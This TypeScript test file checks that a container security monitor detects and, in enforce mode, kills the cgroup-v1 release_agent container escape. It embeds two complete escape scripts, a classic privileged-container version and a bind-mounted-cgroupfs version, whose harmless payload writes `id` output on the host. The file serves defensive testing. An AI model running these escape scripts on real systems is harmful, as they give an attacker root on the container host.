// The classic cgroup-v1 release_agent escape (--cap-add SYS_ADMIN, AppArmor off): mount a v1
// hierarchy, set notify_on_release, point release_agent at a script in the container's upper
// layer (found from /proc/mounts), empty the cgroup: the kernel runs the script as host root.
// Variant: the host's cgroupfs bind-mounted into the container, no mount needed.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { skipUnlessRoot } from '../../helpers/root.js';
import { runContainer } from '../../helpers/docker.js';
import { containerName, withAces, type Mode } from '../../helpers/escape-suite.js';

const MARKER = `/tmp/aces-e2e-ra-marker-${process.pid}`;

// The public proof of concept, with the payload writing a marker on the host.
const CLASSIC = `
mkdir /tmp/cgrp && mount -t cgroup -o memory cgroup /tmp/cgrp && mkdir -p /tmp/cgrp/x
echo 1 > /tmp/cgrp/x/notify_on_release
host_path=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -1)
echo "$host_path/cmd" > /tmp/cgrp/release_agent
printf '#!/bin/sh\\nid > ${MARKER}\\n' > /cmd
chmod a+x /cmd
sh -c "echo \\$\\$ > /tmp/cgrp/x/cgroup.procs"
sleep 2
echo done
`;

// Host cgroupfs bind-mounted: only the writes remain.
const BOUND = `
mkdir -p /hostcg/aces-ra-x
echo 1 > /hostcg/aces-ra-x/notify_on_release
host_path=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -1)
echo "$host_path/cmd" > /hostcg/release_agent
printf '#!/bin/sh\\nid > ${MARKER}\\n' > /cmd
chmod a+x /cmd
sh -c "echo \\$\\$ > /hostcg/aces-ra-x/cgroup.procs"
sleep 2
rmdir /hostcg/aces-ra-x
echo done
`;

const CASES = [
  { tag: 'classic', args: ['--cap-add', 'SYS_ADMIN', '--security-opt', 'apparmor=unconfined'], script: CLASSIC, firstRule: 'cgroup-v1-mount' },
  { tag: 'bound', args: ['-v', '/sys/fs/cgroup/memory:/hostcg'], script: BOUND, firstRule: 'release-agent-write' },
];

for (const mode of ['monitor', 'enforce'] as Mode[]) {
  describe(`release_agent escape (${mode})`, { concurrency: false }, () => {
    const aces = withAces(mode);
    for (const c of CASES) {
      test(c.tag, async (t) => {
        if (!skipUnlessRoot(t)) return;
        rmSync(MARKER, { force: true });
        const name = containerName(`ra-${c.tag}`);
        const r = await runContainer({ name, args: c.args, cmd: ['sh', '-c', c.script] });
        const ev = await aces().waitForEvent((e) => e.rule === c.firstRule && e.container?.name === name);
        assert.equal(ev.container?.image, 'aces-busybox:test');
        assert.equal(ev.container?.runtime, 'docker');
        assert.equal(ev.level, 2);
        try {
          if (mode === 'monitor') {
            assert.equal(r.code, 0, r.stderr);
            assert.match(r.stdout, /done/);
            assert.equal(existsSync(MARKER), true, 'in monitor mode the escape runs a host command');
            assert.match(readFileSync(MARKER, 'utf8'), /uid=0/);
            assert.equal(ev.action, 'alert');
            assert.equal(ev.monitor, true);
          } else {
            assert.equal(existsSync(MARKER), false, 'a command ran as host root');
            assert.notEqual(r.code, 0);
            assert.doesNotMatch(r.stdout, /done/);
            assert.equal(ev.action, 'kill');
            assert.ok(ev.kernel_ns.exit, 'the killed task exited');
          }
        } finally {
          rmSync(MARKER, { force: true });
        }
      });
    }
  });
}
